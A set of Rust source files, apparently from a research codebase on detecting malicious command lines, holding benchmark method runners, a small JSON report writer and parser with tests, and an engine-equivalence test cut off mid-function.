/// of the whole labeled set each round, so this bounds its cost without
/// touching the (few) positives.
pub fn subsample_labeled<'a, R: Rng + ?Sized>(
    rng: &mut R,
    lines: &[&'a str],
    labels: &[bool],
    max_negatives: usize,
) -> (Vec<&'a str>, Vec<bool>) {
    let mut pos: Vec<usize> = Vec::new();
    let mut neg: Vec<usize> = Vec::new();
    for (i, &y) in labels.iter().enumerate() {
        if y {
            pos.push(i);
        } else {
            neg.push(i);
        }
    }
    neg.shuffle(rng);
    neg.truncate(max_negatives);
    let mut idx = pos;
    idx.extend(neg);
    idx.shuffle(rng);
    (
        idx.iter().map(|&i| lines[i]).collect(),
        idx.iter().map(|&i| labels[i]).collect(),
    )
}

/// Classification-based tuning (single line): fit on supervision labels,
/// score the de-duplicated test set.
pub fn run_classification<R: Rng + ?Sized>(exp: &Experiment, rng: &mut R) -> Vec<ScoredSample> {
    let lines = exp.train_lines();
    let labels = exp.train_labels();
    let tuner = ClassificationTuner::fit(
        &exp.pipeline,
        &lines,
        &labels,
        &TuneConfig::scaled(),
        rng,
    );
    let dedup = exp.deduped_test();
    let refs: Vec<&str> = dedup.iter().map(|r| r.line.as_str()).collect();
    let scores = tuner.score_lines(&exp.pipeline, &refs);
    exp.scored(&dedup, &scores)
}

/// Multi-line classification: windows of recent same-user lines joined
/// with `;`. The test set is de-duplicated *by window*, which is why the
/// paper reports only top-v metrics for this method.
pub fn run_multiline<R: Rng + ?Sized>(exp: &Experiment, rng: &mut R) -> Vec<ScoredSample> {
    let labels = exp.train_labels();
    let classifier = MultiLineClassifier::fit(
        &exp.pipeline,
        &exp.dataset.train,
        &labels,
        MULTI_LINE_WIDTH,
        MULTI_LINE_MAX_GAP,
        &TuneConfig::scaled(),
        rng,
    );
    // Score the FULL test stream (windows need the raw temporal order),
    // then de-duplicate by window content — the paper notes the
    // multi-line de-duplicated set differs in size from the single-line
    // one, which is why Table I omits PO/PO&I for this method.
    let scores = classifier.score_records(&exp.pipeline, &exp.dataset.test);
    let windows = cmdline_ids::tuning::build_windows(
        &exp.dataset.test,
        MULTI_LINE_WIDTH,
        MULTI_LINE_MAX_GAP,
    );
    let mut seen = std::collections::HashSet::new();
    let mut out = Vec::new();
    for (i, (r, w)) in exp.dataset.test.iter().zip(&windows).enumerate() {
        if seen.insert(w.joined()) {
            out.push(ScoredSample {
                score: scores[i],
                malicious: r.truth.is_malicious(),
                in_box: exp.ids.is_alert(&r.line),
            });
        }
    }
    out
}

/// Reconstruction-based tuning: alternating f/W optimization (Eq. 2).
pub fn run_reconstruction<R: Rng + ?Sized>(exp: &Experiment, rng: &mut R) -> Vec<ScoredSample> {
    let mut pipeline = exp.pipeline.clone();
    let lines = exp.train_lines();
    let labels = exp.train_labels();
    let (sub_lines, sub_labels) = subsample_labeled(rng, &lines, &labels, 2_500);
    let tuner = ReconstructionTuner::fit(
        &mut pipeline,
        &sub_lines,
        &sub_labels,
        &ReconstructionConfig::scaled(),
        rng,
    );
    let dedup = exp.deduped_test();
    let refs: Vec<&str> = dedup.iter().map(|r| r.line.as_str()).collect();
    let scores = tuner.score_lines(&pipeline, &refs);
    exp.scored(&dedup, &scores)
}

/// Retrieval (1NN over malicious exemplars; no tuning).
pub fn run_retrieval(exp: &Experiment) -> Vec<ScoredSample> {
    let lines = exp.train_lines();
    let labels = exp.train_labels();
    let retrieval = Retrieval::fit(&exp.pipeline, &lines, &labels, 1);
    let dedup = exp.deduped_test();
    let refs: Vec<&str> = dedup.iter().map(|r| r.line.as_str()).collect();
    let scores = retrieval.score_lines(&exp.pipeline, &refs);
    exp.scored(&dedup, &scores)
}

/// Ablation: vanilla majority-vote kNN (the method the paper modified
/// away from because of label noise).
pub fn run_vanilla_knn(exp: &Experiment, k: usize) -> Vec<ScoredSample> {
    let lines = exp.train_lines();
    let labels = exp.train_labels();
    let knn = VanillaRetrieval::fit(&exp.pipeline, &lines, &labels, k);
    let dedup = exp.deduped_test();
    let refs: Vec<&str> = dedup.iter().map(|r| r.line.as_str()).collect();
    let scores = knn.score_lines(&exp.pipeline, &refs);
    exp.scored(&dedup, &scores)
}

#[cfg(test)]
mod tests {
    use super::*;
    use cmdline_ids::pipeline::PipelineConfig;

    fn tiny_experiment() -> Experiment {
        let mut config = PipelineConfig::fast();
        config.train_size = 800;
        config.test_size = 400;
        config.attack_prob = 0.25;
        Experiment::setup(99, config)
    }

    #[test]
    fn subsample_keeps_all_positives() {
        let mut rng = rand::rngs::mock::StepRng::new(7, 11);
        let lines = vec!["a", "b", "c", "d", "e"];
        let labels = vec![true, false, false, true, false];
        let (sl, sb) = subsample_labeled(&mut rng, &lines, &labels, 1);
        assert_eq!(sb.iter().filter(|&&y| y).count(), 2);
        assert_eq!(sl.len(), 3);
    }

    #[test]
    fn all_methods_produce_one_score_per_sample() {
        let exp = tiny_experiment();
        let mut rng = exp.method_rng(1);
        let n = exp.deduped_test().len();

        let cls = run_classification(&exp, &mut rng);
        assert_eq!(cls.len(), n);
        let retr = run_retrieval(&exp);
        assert_eq!(retr.len(), n);
        let knn = run_vanilla_knn(&exp, 3);
        assert_eq!(knn.len(), n);

        let multi = run_multiline(&exp, &mut rng);
        assert!(!multi.is_empty());
        // Window-level dedup keeps at least as many samples as are unique
        // lines (same line in different contexts stays).
        assert!(multi.len() >= 1);

        let recon = run_reconstruction(&exp, &mut rng);
        assert_eq!(recon.len(), n);
        // Scores must be finite everywhere.
        for s in cls.iter().chain(&retr).chain(&multi).chain(&recon) {
            assert!(s.score.is_finite());
        }
    }
}
