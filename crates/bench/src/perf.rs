//! Machine-readable perf records for the scale benches.
//!
//! The `quant_scale` and `shard_scale` benches print human-readable
//! tables *and* persist the same figures as JSON (`BENCH_quant.json`,
//! `BENCH_shard.json` at the workspace root) so CI and the roadmap
//! tables can diff throughput regressions without scraping stdout.
//!
//! The workspace has no JSON dependency, so the writer is a tiny
//! hand-rolled serializer over a [`Value`] tree: objects preserve
//! insertion order, floats are emitted with enough precision to
//! round-trip, and strings are escaped per RFC 8259.

use std::fmt::Write as _;
use std::path::PathBuf;

/// A minimal JSON value: everything the perf records need, nothing more.
#[derive(Debug, Clone)]
pub enum Value {
    /// JSON string.
    Str(String),
    /// JSON number from an integer.
    Int(i64),
    /// JSON number from a float (non-finite values serialize as `null`).
    Float(f64),
    /// JSON boolean.
    Bool(bool),
    /// JSON array.
    Array(Vec<Value>),
    /// JSON object; insertion order is preserved verbatim.
    Object(Vec<(String, Value)>),
}

impl Value {
    /// Shorthand for an empty object, filled via [`Value::push`].
    pub fn object() -> Self {
        Value::Object(Vec::new())
    }

    /// Append a key/value pair; panics if `self` is not an object.
    pub fn push(&mut self, key: &str, value: Value) -> &mut Self {
        match self {
            Value::Object(entries) => entries.push((key.to_string(), value)),
            _ => panic!("Value::push on a non-object"),
        }
        self
    }

    /// Serialize with two-space indentation.
    pub fn to_json(&self) -> String {
        let mut out = String::new();
        self.write(&mut out, 0);
        out.push('\n');
        out
    }

    fn write(&self, out: &mut String, depth: usize) {
        match self {
            Value::Str(s) => write_escaped(out, s),
            Value::Int(i) => {
                let _ = write!(out, "{i}");
            }
            Value::Float(f) => {
                if f.is_finite() {
                    // `{:?}` prints the shortest representation that
                    // round-trips, and always includes a decimal point
                    // or exponent so the token stays a JSON number.
                    let _ = write!(out, "{f:?}");
                } else {
                    out.push_str("null");
                }
            }
            Value::Bool(b) => {
                let _ = write!(out, "{b}");
            }
            Value::Array(items) => {
                if items.is_empty() {
                    out.push_str("[]");
                    return;
                }
                out.push('[');
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    indent(out, depth + 1);
                    item.write(out, depth + 1);
                }
                indent(out, depth);
                out.push(']');
            }
            Value::Object(entries) => {
                if entries.is_empty() {
                    out.push_str("{}");
                    return;
                }
                out.push('{');
                for (i, (key, value)) in entries.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    indent(out, depth + 1);
                    write_escaped(out, key);
                    out.push_str(": ");
                    value.write(out, depth + 1);
                }
                indent(out, depth);
                out.push('}');
            }
        }
    }
}

fn indent(out: &mut String, depth: usize) {
    out.push('\n');
    for _ in 0..depth {
        out.push_str("  ");
    }
}

fn write_escaped(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

/// Parse the JSON subset [`Value::to_json`] emits (plus arbitrary
/// whitespace), so two benches can share one report file: one reads
/// the sections the other wrote before rewriting. Not a general JSON
/// parser — `null` degrades to a non-finite [`Value::Float`] exactly
/// as the writer degrades non-finite floats to `null`.
pub fn parse(input: &str) -> Result<Value, String> {
    let bytes = input.as_bytes();
    let mut pos = 0usize;
    let value = parse_value(bytes, &mut pos)?;
    skip_ws(bytes, &mut pos);
    if pos != bytes.len() {
        return Err(format!("trailing bytes at offset {pos}"));
    }
    Ok(value)
}

fn skip_ws(bytes: &[u8], pos: &mut usize) {
    while *pos < bytes.len() && bytes[*pos].is_ascii_whitespace() {
        *pos += 1;
    }
}

fn expect(bytes: &[u8], pos: &mut usize, b: u8) -> Result<(), String> {
    if bytes.get(*pos) == Some(&b) {
        *pos += 1;
        Ok(())
    } else {
        Err(format!("expected {:?} at offset {pos}", b as char))
    }
}

fn parse_value(bytes: &[u8], pos: &mut usize) -> Result<Value, String> {
    skip_ws(bytes, pos);
    match bytes.get(*pos) {
        Some(b'{') => {
            *pos += 1;
            let mut entries = Vec::new();
            skip_ws(bytes, pos);
            if bytes.get(*pos) == Some(&b'}') {
                *pos += 1;
                return Ok(Value::Object(entries));
            }
            loop {
                skip_ws(bytes, pos);
                let key = parse_string(bytes, pos)?;
                skip_ws(bytes, pos);
                expect(bytes, pos, b':')?;
                entries.push((key, parse_value(bytes, pos)?));
                skip_ws(bytes, pos);
                match bytes.get(*pos) {
                    Some(b',') => *pos += 1,
                    Some(b'}') => {
                        *pos += 1;
                        return Ok(Value::Object(entries));
                    }
                    _ => return Err(format!("expected ',' or '}}' at offset {pos}")),
                }
            }
        }
        Some(b'[') => {
            *pos += 1;
            let mut items = Vec::new();
            skip_ws(bytes, pos);
            if bytes.get(*pos) == Some(&b']') {
                *pos += 1;
                return Ok(Value::Array(items));
            }
            loop {
                items.push(parse_value(bytes, pos)?);
                skip_ws(bytes, pos);
                match bytes.get(*pos) {
                    Some(b',') => *pos += 1,
                    Some(b']') => {
                        *pos += 1;
                        return Ok(Value::Array(items));
                    }
                    _ => return Err(format!("expected ',' or ']' at offset {pos}")),
                }
            }
        }
        Some(b'"') => Ok(Value::Str(parse_string(bytes, pos)?)),
        Some(b't') if bytes[*pos..].starts_with(b"true") => {
            *pos += 4;
            Ok(Value::Bool(true))
        }
        Some(b'f') if bytes[*pos..].starts_with(b"false") => {
            *pos += 5;
            Ok(Value::Bool(false))
        }
        Some(b'n') if bytes[*pos..].starts_with(b"null") => {
            *pos += 4;
            Ok(Value::Float(f64::NAN))
        }
        Some(_) => parse_number(bytes, pos),
        None => Err("unexpected end of input".into()),
    }
}

fn parse_string(bytes: &[u8], pos: &mut usize) -> Result<String, String> {
    expect(bytes, pos, b'"')?;
    let mut out = String::new();
    let rest = std::str::from_utf8(&bytes[*pos..]).map_err(|e| e.to_string())?;
    let mut chars = rest.char_indices();
    while let Some((i, c)) = chars.next() {
        match c {
            '"' => {
                *pos += i + 1;
                return Ok(out);
            }
            '\\' => match chars.next() {
                Some((_, '"')) => out.push('"'),
                Some((_, '\\')) => out.push('\\'),
                Some((_, 'n')) => out.push('\n'),
                Some((_, 'r')) => out.push('\r'),
                Some((_, 't')) => out.push('\t'),
                Some((_, 'u')) => {
                    let mut code = 0u32;
                    for _ in 0..4 {
                        let (_, h) = chars
                            .next()
                            .ok_or_else(|| "truncated \\u escape".to_string())?;
                        code = code * 16 + h.to_digit(16).ok_or("bad \\u escape")?;
                    }
                    out.push(char::from_u32(code).ok_or("bad \\u code point")?);
                }
                other => return Err(format!("bad escape {other:?}")),
            },
            c => out.push(c),
        }
    }
    Err("unterminated string".into())
}

fn parse_number(bytes: &[u8], pos: &mut usize) -> Result<Value, String> {
    let start = *pos;
    while *pos < bytes.len()
        && matches!(bytes[*pos], b'-' | b'+' | b'.' | b'e' | b'E' | b'0'..=b'9')
    {
        *pos += 1;
    }
    let token = std::str::from_utf8(&bytes[start..*pos]).map_err(|e| e.to_string())?;
    if token.bytes().all(|b| matches!(b, b'-' | b'0'..=b'9')) {
        if let Ok(i) = token.parse::<i64>() {
            return Ok(Value::Int(i));
        }
    }
    token
        .parse::<f64>()
        .map(Value::Float)
        .map_err(|_| format!("bad number {token:?} at offset {start}"))
}

fn report_path(file_name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../..")
        .join(file_name)
}

/// Write a perf record to `<workspace root>/<file_name>`.
///
/// Returns the path written so benches can print it. The workspace
/// root is resolved relative to this crate's manifest, so the record
/// lands in the same place no matter which directory the bench runs
/// from.
pub fn write_report(file_name: &str, record: &Value) -> PathBuf {
    let path = report_path(file_name);
    std::fs::write(&path, record.to_json())
        .unwrap_or_else(|e| panic!("writing {}: {e}", path.display()));
    path
}

/// Replace one top-level `section` of `<workspace root>/<file_name>`
/// with `record`, preserving every other section — how two benches
/// (`serve_throughput`, `net_throughput`) share one report file
/// without clobbering each other's figures. A missing or unparseable
/// file starts fresh; other sections' order is preserved.
pub fn merge_report(file_name: &str, section: &str, record: Value) -> PathBuf {
    let path = report_path(file_name);
    let mut root = std::fs::read_to_string(&path)
        .ok()
        .and_then(|text| parse(&text).ok())
        .filter(|v| matches!(v, Value::Object(_)))
        .unwrap_or_else(Value::object);
    let Value::Object(entries) = &mut root else {
        unreachable!("filtered to objects above")
    };
    match entries.iter_mut().find(|(key, _)| key == section) {
        Some((_, slot)) => *slot = record,
        None => entries.push((section.to_string(), record)),
    }
    std::fs::write(&path, root.to_json())
        .unwrap_or_else(|e| panic!("writing {}: {e}", path.display()));
    path
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn serializes_nested_records_with_stable_order() {
        let mut row = Value::object();
        row.push("format", Value::Str("i8".into()))
            .push("q_per_ms", Value::Float(3.25))
            .push("bytes_per_query", Value::Int(64))
            .push("exact", Value::Bool(true));
        let mut root = Value::object();
        root.push("bench", Value::Str("quant_scale".into()))
            .push("rows", Value::Array(vec![row]));
        let json = root.to_json();
        assert_eq!(
            json,
            "{\n  \"bench\": \"quant_scale\",\n  \"rows\": [\n    {\n      \
             \"format\": \"i8\",\n      \"q_per_ms\": 3.25,\n      \
             \"bytes_per_query\": 64,\n      \"exact\": true\n    }\n  ]\n}\n"
        );
    }

    #[test]
    fn floats_round_trip_and_non_finite_degrade_to_null() {
        let v = Value::Array(vec![
            Value::Float(0.1),
            Value::Float(f64::NAN),
            Value::Float(1.0),
        ]);
        assert_eq!(v.to_json(), "[\n  0.1,\n  null,\n  1.0\n]\n");
    }

    #[test]
    fn strings_are_escaped() {
        let v = Value::Str("a\"b\\c\nd\u{1}".into());
        assert_eq!(v.to_json(), "\"a\\\"b\\\\c\\nd\\u0001\"\n");
    }

    #[test]
    fn parse_round_trips_everything_the_writer_emits() {
        let mut row = Value::object();
        row.push("format", Value::Str("i8 \"quoted\"\n".into()))
            .push("q_per_ms", Value::Float(3.25))
            .push("count", Value::Int(-64))
            .push("exact", Value::Bool(true))
            .push("skipped", Value::Bool(false))
            .push("nan", Value::Float(f64::NAN))
            .push("empty_arr", Value::Array(vec![]))
            .push("empty_obj", Value::object());
        let mut root = Value::object();
        root.push("bench", Value::Str("x".into()))
            .push("rows", Value::Array(vec![row]));
        let json = root.to_json();
        let reparsed = parse(&json).expect("parses");
        // NaN != NaN breaks naive equality; compare re-serializations
        // (non-finite floats degrade to null on both sides).
        assert_eq!(reparsed.to_json(), json);
    }

    #[test]
    fn parse_rejects_garbage_with_an_error() {
        assert!(parse("").is_err());
        assert!(parse("{\"a\": }").is_err());
        assert!(parse("[1, 2").is_err());
        assert!(parse("{} trailing").is_err());
        assert!(parse("\"unterminated").is_err());
    }

    #[test]
    fn merge_report_replaces_one_section_and_keeps_the_rest() {
        let file = "BENCH_test_merge.json";
        let path = report_path(file);
        let _ = std::fs::remove_file(&path);

        let mut first = Value::object();
        first.push("q_per_s", Value::Float(100.0));
        merge_report(file, "micro_batching", first);

        let mut second = Value::object();
        second.push("hit_rate", Value::Float(0.9));
        merge_report(file, "net", second);

        let mut replacement = Value::object();
        replacement.push("q_per_s", Value::Float(250.0));
        let written = merge_report(file, "micro_batching", replacement);

        let root = parse(&std::fs::read_to_string(&written).unwrap()).unwrap();
        let Value::Object(entries) = root else {
            panic!("root is an object")
        };
        assert_eq!(entries.len(), 2, "both sections present");
        assert_eq!(entries[0].0, "micro_batching", "section order preserved");
        assert_eq!(entries[1].0, "net");
        let Value::Object(section) = &entries[0].1 else {
            panic!("section is an object")
        };
        assert!(
            matches!(section[0].1, Value::Float(f) if f == 250.0),
            "replaced section carries the new figure"
        );
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn merge_report_scenarios_file_keeps_headline_and_scenarios_apart() {
        // The shape BENCH_scenarios.json actually has: f1_comparison
        // writes its Section V-B `headline` and the obfuscation
        // `scenarios` table as two sections of one file, in that
        // order, and a rerun of either must never clobber the other.
        let file = "BENCH_test_scenarios.json";
        let path = report_path(file);
        let _ = std::fs::remove_file(&path);

        let mut headline = Value::object();
        headline
            .push("model_f1", Value::Float(0.997))
            .push("ids_f1", Value::Float(0.987));
        merge_report(file, "headline", headline);

        let mut row = Value::object();
        row.push("scenario", Value::Str("quoting-obfuscation".into()))
            .push("ensemble_f1", Value::Float(0.93))
            .push("best_lm_f1", Value::Float(0.90));
        let mut scenarios = Value::object();
        scenarios.push("rows", Value::Array(vec![row]));
        merge_report(file, "scenarios", scenarios);

        // A scenario-table rerun replaces its own section only.
        let mut rerun = Value::object();
        rerun.push("rows", Value::Array(vec![]));
        let written = merge_report(file, "scenarios", rerun);

        let root = parse(&std::fs::read_to_string(&written).unwrap()).unwrap();
        let Value::Object(entries) = root else {
            panic!("root is an object")
        };
        assert_eq!(
            entries.iter().map(|(k, _)| k.as_str()).collect::<Vec<_>>(),
            ["headline", "scenarios"],
            "both sections present, write order preserved"
        );
        let Value::Object(headline) = &entries[0].1 else {
            panic!("headline section is an object")
        };
        assert!(
            matches!(headline[0].1, Value::Float(f) if f == 0.997),
            "the headline figures survive the scenario rerun"
        );
        assert!(
            matches!(&entries[1].1, Value::Object(s)
                if matches!(&s[0].1, Value::Array(rows) if rows.is_empty())),
            "the rerun replaced the scenario rows"
        );
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn merge_report_co_writes_four_sections_without_clobbering() {
        // The shape BENCH_serve.json actually has: the micro-batching,
        // net, lifecycle, and tenant-scale benches each own one
        // top-level section of the same file and must never clobber
        // the other three, whatever order the benches run in.
        let file = "BENCH_test_four_sections.json";
        let path = report_path(file);
        let _ = std::fs::remove_file(&path);

        let mut micro = Value::object();
        micro.push("e2e_speedup", Value::Float(2.2));
        merge_report(file, "micro_batching", micro);
        let mut net = Value::object();
        net.push("hit_rate", Value::Float(0.9));
        merge_report(file, "net", net);
        let mut lifecycle = Value::object();
        lifecycle
            .push("under_load_refit_ms", Value::Float(120.5))
            .push("parity", Value::Str("bit-identical".into()));
        merge_report(file, "lifecycle", lifecycle);
        let mut tenants = Value::object();
        tenants
            .push("tenants", Value::Int(10_000))
            .push("hot_over_cold", Value::Float(3.5));
        let written = merge_report(file, "tenants", tenants);

        let root = parse(&std::fs::read_to_string(&written).unwrap()).unwrap();
        let Value::Object(entries) = root else {
            panic!("root is an object")
        };
        assert_eq!(
            entries.iter().map(|(k, _)| k.as_str()).collect::<Vec<_>>(),
            ["micro_batching", "net", "lifecycle", "tenants"],
            "all four sections present, insertion order preserved"
        );

        // Re-running the tenant bench replaces only its section.
        let mut rerun = Value::object();
        rerun.push("tenants", Value::Int(20_000));
        merge_report(file, "tenants", rerun);
        let root = parse(&std::fs::read_to_string(&path).unwrap()).unwrap();
        let Value::Object(entries) = root else {
            panic!("root is an object")
        };
        assert_eq!(entries.len(), 4, "a rerun must not drop sections");
        let Value::Object(section) = &entries[3].1 else {
            panic!("tenants section is an object")
        };
        assert!(
            matches!(section[0].1, Value::Int(20_000)),
            "rerun replaces the tenant figures"
        );
        let Value::Object(micro) = &entries[0].1 else {
            panic!("micro_batching section is an object")
        };
        assert!(
            matches!(micro[0].1, Value::Float(f) if f == 2.2),
            "the other benches' figures survive untouched"
        );
        let _ = std::fs::remove_file(&path);
    }
}
