//! Machine-readable perf records for the scale benches.
//!
//! The `quant_scale` and `shard_scale` benches print human-readable
//! tables *and* persist the same figures as JSON (`BENCH_quant.json`,
//! `BENCH_shard.json` at the workspace root) so CI and the roadmap
//! tables can diff throughput regressions without scraping stdout.
//!
//! The workspace has no JSON dependency, so the writer is a tiny
//! hand-rolled serializer over a [`Value`] tree: objects preserve
//! insertion order, floats are emitted with enough precision to
//! round-trip, and strings are escaped per RFC 8259.

use std::fmt::Write as _;
use std::path::PathBuf;

/// A minimal JSON value: everything the perf records need, nothing more.
#[derive(Debug, Clone)]
pub enum Value {
    /// JSON string.
    Str(String),
    /// JSON number from an integer.
    Int(i64),
    /// JSON number from a float (non-finite values serialize as `null`).
    Float(f64),
    /// JSON boolean.
    Bool(bool),
    /// JSON array.
    Array(Vec<Value>),
    /// JSON object; insertion order is preserved verbatim.
    Object(Vec<(String, Value)>),
}

impl Value {
    /// Shorthand for an empty object, filled via [`Value::push`].
    pub fn object() -> Self {
        Value::Object(Vec::new())
    }

    /// Append a key/value pair; panics if `self` is not an object.
    pub fn push(&mut self, key: &str, value: Value) -> &mut Self {
        match self {
            Value::Object(entries) => entries.push((key.to_string(), value)),
            _ => panic!("Value::push on a non-object"),
        }
        self
    }

    /// Serialize with two-space indentation.
    pub fn to_json(&self) -> String {
        let mut out = String::new();
        self.write(&mut out, 0);
        out.push('\n');
        out
    }

    fn write(&self, out: &mut String, depth: usize) {
        match self {
            Value::Str(s) => write_escaped(out, s),
            Value::Int(i) => {
                let _ = write!(out, "{i}");
            }
            Value::Float(f) => {
                if f.is_finite() {
                    // `{:?}` prints the shortest representation that
                    // round-trips, and always includes a decimal point
                    // or exponent so the token stays a JSON number.
                    let _ = write!(out, "{f:?}");
                } else {
                    out.push_str("null");
                }
            }
            Value::Bool(b) => {
                let _ = write!(out, "{b}");
            }
            Value::Array(items) => {
                if items.is_empty() {
                    out.push_str("[]");
                    return;
                }
                out.push('[');
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    indent(out, depth + 1);
                    item.write(out, depth + 1);
                }
                indent(out, depth);
                out.push(']');
            }
            Value::Object(entries) => {
                if entries.is_empty() {
                    out.push_str("{}");
                    return;
                }
                out.push('{');
                for (i, (key, value)) in entries.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    indent(out, depth + 1);
                    write_escaped(out, key);
                    out.push_str(": ");
                    value.write(out, depth + 1);
                }
                indent(out, depth);
                out.push('}');
            }
        }
    }
}

fn indent(out: &mut String, depth: usize) {
    out.push('\n');
    for _ in 0..depth {
        out.push_str("  ");
    }
}

fn write_escaped(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

/// Write a perf record to `<workspace root>/<file_name>`.
///
/// Returns the path written so benches can print it. The workspace
/// root is resolved relative to this crate's manifest, so the record
/// lands in the same place no matter which directory the bench runs
/// from.
pub fn write_report(file_name: &str, record: &Value) -> PathBuf {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../..")
        .join(file_name);
    std::fs::write(&path, record.to_json())
        .unwrap_or_else(|e| panic!("writing {}: {e}", path.display()));
    path
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn serializes_nested_records_with_stable_order() {
        let mut row = Value::object();
        row.push("format", Value::Str("i8".into()))
            .push("q_per_ms", Value::Float(3.25))
            .push("bytes_per_query", Value::Int(64))
            .push("exact", Value::Bool(true));
        let mut root = Value::object();
        root.push("bench", Value::Str("quant_scale".into()))
            .push("rows", Value::Array(vec![row]));
        let json = root.to_json();
        assert_eq!(
            json,
            "{\n  \"bench\": \"quant_scale\",\n  \"rows\": [\n    {\n      \
             \"format\": \"i8\",\n      \"q_per_ms\": 3.25,\n      \
             \"bytes_per_query\": 64,\n      \"exact\": true\n    }\n  ]\n}\n"
        );
    }

    #[test]
    fn floats_round_trip_and_non_finite_degrade_to_null() {
        let v = Value::Array(vec![
            Value::Float(0.1),
            Value::Float(f64::NAN),
            Value::Float(1.0),
        ]);
        assert_eq!(v.to_json(), "[\n  0.1,\n  null,\n  1.0\n]\n");
    }

    #[test]
    fn strings_are_escaped() {
        let v = Value::Str("a\"b\\c\nd\u{1}".into());
        assert_eq!(v.to_json(), "\"a\\\"b\\\\c\\nd\\u0001\"\n");
    }
}
