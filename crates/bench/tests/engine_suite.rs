//! Engine-vs-legacy equivalence: for every Section-IV method, the
//! scoring engine must produce **bit-identical** scores to the legacy
//! per-method `score_lines` path, on a `PipelineConfig::fast()`
//! experiment, across seeds. This pins down that the shared
//! [`EmbeddingStore`] pass and the batched encoder forward changed the
//! cost of the computation, not the computation.

use bench::methods::{MethodSuite, MULTI_LINE_MAX_GAP, MULTI_LINE_WIDTH, RECON_MAX_NEGATIVES};
use bench::Experiment;
use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{subsample_labeled, window_dedup_indices, EmbeddingStore};
use cmdline_ids::retrieval::{Retrieval, VanillaRetrieval};
use cmdline_ids::tuning::{
    ClassificationTuner, MultiLineClassifier, ReconstructionConfig, ReconstructionTuner, TuneConfig,
};
use rand::rngs::StdRng;
use rand::SeedableRng;

fn fast_experiment(seed: u64) -> Experiment {
    let mut config = cmdline_ids::pipeline::PipelineConfig::fast();
    config.train_size = 700;
    config.test_size = 350;
    config.attack_prob = 0.25;
    Experiment::setup(seed, config)
}

#[test]
fn engine_scores_are_bit_identical_to_legacy_paths() {
    for seed in [41u64, 1337] {
        let exp = fast_experiment(seed);
        let lines = exp.train_lines();
        let labels = exp.train_labels();
        let dedup = exp.deduped_test();
        let refs: Vec<&str> = dedup.iter().map(|r| r.line.as_str()).collect();

        let cls_seed = exp.method_seed("classification");
        let recon_seed = exp.method_seed("reconstruction");
        let multi_seed = exp.method_seed("multiline");

        // --- Legacy per-method paths (each embeds on its own). ---
        let legacy_classification = {
            let mut rng = StdRng::seed_from_u64(cls_seed);
            let tuner = ClassificationTuner::fit(
                &exp.pipeline,
                &lines,
                &labels,
                &TuneConfig::scaled(),
                &mut rng,
            );
            tuner.score_lines(&exp.pipeline, &refs)
        };
        let legacy_reconstruction = {
            let mut rng = StdRng::seed_from_u64(recon_seed);
            let (sub_lines, sub_labels) =
                subsample_labeled(&mut rng, &lines, &labels, RECON_MAX_NEGATIVES);
            let mut pipeline = exp.pipeline.clone();
            let tuner = ReconstructionTuner::fit(
                &mut pipeline,
                &sub_lines,
                &sub_labels,
                &ReconstructionConfig::scaled(),
                &mut rng,
            );
            tuner.score_lines(&pipeline, &refs)
        };
        let legacy_retrieval = {
            let retrieval = Retrieval::fit(&exp.pipeline, &lines, &labels, 1);
            retrieval.score_lines(&exp.pipeline, &refs)
        };
        let legacy_vanilla = {
            let knn = VanillaRetrieval::fit(&exp.pipeline, &lines, &labels, 3);
            knn.score_lines(&exp.pipeline, &refs)
        };
        let legacy_multiline = {
            let mut rng = StdRng::seed_from_u64(multi_seed);
            let classifier = MultiLineClassifier::fit(
                &exp.pipeline,
                &exp.dataset.train,
                &labels,
                MULTI_LINE_WIDTH,
                MULTI_LINE_MAX_GAP,
                &TuneConfig::scaled(),
                &mut rng,
            );
            let scores = classifier.score_records(&exp.pipeline, &exp.dataset.test);
            window_dedup_indices(&exp.dataset.test, MULTI_LINE_WIDTH, MULTI_LINE_MAX_GAP)
                .into_iter()
                .map(|i| scores[i])
                .collect::<Vec<f32>>()
        };

        // --- The engine: one shared embedding pass for all methods. ---
        let run = MethodSuite::new(&exp)
            .with_classification_seeded(cls_seed)
            .with_reconstruction_seeded(recon_seed)
            .with_retrieval(1)
            .with_vanilla_knn(3)
            .with_multiline_seeded(multi_seed)
            .run()
            .expect("suite run");

        assert_eq!(
            run.scores("classification").unwrap(),
            &legacy_classification[..],
            "classification diverged (seed {seed})"
        );
        assert_eq!(
            run.scores("reconstruction").unwrap(),
            &legacy_reconstruction[..],
            "reconstruction diverged (seed {seed})"
        );
        assert_eq!(
            run.scores("retrieval").unwrap(),
            &legacy_retrieval[..],
            "retrieval diverged (seed {seed})"
        );
        assert_eq!(
            run.scores("vanilla-knn").unwrap(),
            &legacy_vanilla[..],
            "vanilla kNN diverged (seed {seed})"
        );
        assert_eq!(
            run.scores("multiline").unwrap(),
            &legacy_multiline[..],
            "multiline diverged (seed {seed})"
        );

        // The shared line sets were embedded exactly once each.
        assert_eq!(run.store().misses(), 2, "train + deduped test, once each");
    }
}

#[test]
fn store_answers_repeat_requests_from_cache() {
    let exp = fast_experiment(17);
    let store = EmbeddingStore::new(&exp.pipeline);
